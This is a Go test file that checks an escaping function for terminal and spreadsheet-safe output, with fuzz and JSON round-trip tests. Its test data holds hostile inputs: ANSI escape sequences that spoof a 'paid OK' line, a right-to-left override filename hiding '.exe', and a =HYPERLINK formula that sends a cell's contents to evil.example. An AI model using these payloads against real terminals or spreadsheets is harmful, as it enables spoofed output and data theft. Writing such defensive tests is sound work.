package plugin

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestPrintable(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"K07-100234-1", "K07-100234-1"},
		{"Недостаточно средств, чек №5 — 259,90 ₽", "Недостаточно средств, чек №5 — 259,90 ₽"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{`C:\path\x1b`, `C:\path\x1b`}, // a backslash stays
		{"\x1b]0;pwned\x07", `\x1b]0;pwned\x07`},
		{"\x1b[2K\rFAKE: paid OK\n", `\x1b[2K\x0dFAKE: paid OK\x0a`},
		{"a\tb\bc\x00d\x7f", `a\x09b\x08c\x00d\x7f`},
		{"\u009b31m\u0085", `\u009b31m\u0085`}, // C1 as UTF-8
		{"\x9b31m", `\x9b31m`},                 // C1 as a bare byte: not UTF-8
		{"ab\u202egpj.exe", `ab\u202egpj.exe`}, // right-to-left override
		{"\u2066x\u2069\u200f\u061c", `\u2066x\u2069\u200f\u061c`},
		{"line\u2028two\u2029", `line\u2028two\u2029`},
		{"zero\u200bwidth\ufeff", `zero\u200bwidth\ufeff`},
		{"tag\U000E0041", `tag\U000e0041`},
		{"\xff\xfe", `\xff\xfe`},
		{"\xd0", `\xd0`}, // half a Cyrillic letter
		// Non-characters: not for interchange, and XML 1.0 forbids U+FFFE
		// and U+FFFF, so an XLSX could not hold them as they are.
		{"a\uFFFEb\uFFFF", `a\ufffeb\uffff`},
		{"\uFDD0\U0001FFFE\U0010FFFF", `\ufdd0\U0001fffe\U0010ffff`},
		{"\uFFFD\uFFFC", "\uFFFD\uFFFC"}, // the replacement and object characters are characters
	} {
		if got := Printable(tc.in); got != tc.want {
			t.Errorf("Printable(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// unsafeOut says what in a Printable result could still act on a terminal,
// or "".
func unsafeOut(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		switch {
		case r < 0x20 || r == 0x7f:
			return "C0 control or DEL"
		case r >= 0x80 && r <= 0x9f:
			return "C1 control"
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			return "bidi control"
		case r == 0x2028 || r == 0x2029:
			return "line separator"
		case !SafeRune(r):
			return "unsafe rune"
		}
	}
	return ""
}

func FuzzPrintable(f *testing.F) {
	for _, s := range []string{
		"", "K07-100234-1", "Оплата прошла", "\x1b]0;pwned\x07\x1b[2K\rFAKE: paid OK",
		"\u009b2J", "\x9b2J", "ab\u202egpj.exe", "\u2066\u2069", "\xff", "\xd0", "a\u2028b", "\U000E0041",
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, `\x1b`, "\t\r\n\x00\x7f",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Printable(s)
		if why := unsafeOut(got); why != "" {
			t.Fatalf("Printable(%q) = %q: %s left", s, got, why)
		}
		clean := utf8.ValidString(s)
		for _, r := range s {
			clean = clean && SafeRune(r)
		}
		if clean != (got == s) {
			t.Fatalf("Printable(%q) = %q: a value is changed exactly when it holds something to escape", s, got)
		}
		if Printable(got) != got {
			t.Fatalf("Printable is not idempotent on %q", s)
		}
		// Every safe rune of the value is still there, in order: only the
		// unsafe ones were replaced.
		var kept strings.Builder
		for i := 0; i < len(s); {
			r, n := utf8.DecodeRuneInString(s[i:])
			if !(r == utf8.RuneError && n == 1) && SafeRune(r) {
				kept.WriteString(s[i : i+n])
			}
			i += n
		}
		rest := got
		for _, r := range kept.String() {
			j := strings.IndexRune(rest, r)
			if j < 0 {
				t.Fatalf("Printable(%q) = %q lost %q", s, got, r)
			}
			rest = rest[j+utf8.RuneLen(r):]
		}
	})
}

// TestPrintableJSON: a JSON document keeps its values exactly while its
// bytes lose every character Printable would escape.
func TestPrintableJSON(t *testing.T) {
	in := map[string]string{"check_id": "A\u202eB", "reason": "x\u0085y\u007fz", "plain": "Чек 1\tок"}
	b, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	out := PrintableJSON(b)
	var back map[string]string
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatalf("not JSON any more: %v: %s", err, out)
	}
	for k, v := range in {
		if back[k] != v {
			t.Errorf("%s: %q became %q", k, v, back[k])
		}
	}
	for _, r := range string(out) {
		if r != '\n' && !SafeRune(r) {
			t.Errorf("raw %U left in %s", r, out)
		}
	}
}
